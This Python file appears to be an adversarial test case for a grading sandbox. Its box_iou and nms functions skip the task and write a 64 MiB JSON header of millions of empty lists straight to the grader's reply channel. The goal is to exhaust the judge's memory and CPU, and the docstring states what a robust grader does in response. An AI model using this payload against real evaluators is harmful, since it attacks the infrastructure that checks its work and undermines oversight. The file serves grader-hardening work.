"""Attack class: Availability -- exhaust the trusted side with a reply that expands on decoding.

Every call writes its own frame to the channel's file descriptor (the worker's reply end, found
in the worker's module), bypassing the worker's encoder: a 64 MiB JSON header of 22 million
empty lists, which a judge that decodes whatever it receives turns into gigabytes of Python
lists and minutes of CPU time, outside the sandbox's limits. Then the call waits to be killed.

A fair grader bounds what it will decode (the reply's size for the check, the header's size and
its element count, counted before decoding) and runs the judge under its own memory and CPU
limits: each check ends `bad_value`, the grading is `graded` with 0 points, and the judge's peak
memory stays near its usual figure.
"""

import os
import struct
import sys
import time

LISTS = 22_000_000  # "[]," each: 66 MB, under the format's 64 MiB cap on a header


def _reply_fd():
    channel = getattr(sys.modules["__main__"], "CHANNEL", None)
    if channel is not None:
        return channel[1]
    return int(sys.argv[3])  # pipes: the worker's arguments are SPEC REQUEST_FD REPLY_FD


def _flood():
    header = b"[" + b"[]," * (LISTS - 1) + b"[]]"
    frame = struct.pack("<II", len(header), 0) + header
    fd = _reply_fd()
    view = memoryview(frame)
    while view:
        view = view[os.write(fd, view):]
    time.sleep(3600)


def box_iou(boxes1, boxes2):
    _flood()


def nms(boxes, scores, iou_threshold):
    _flood()
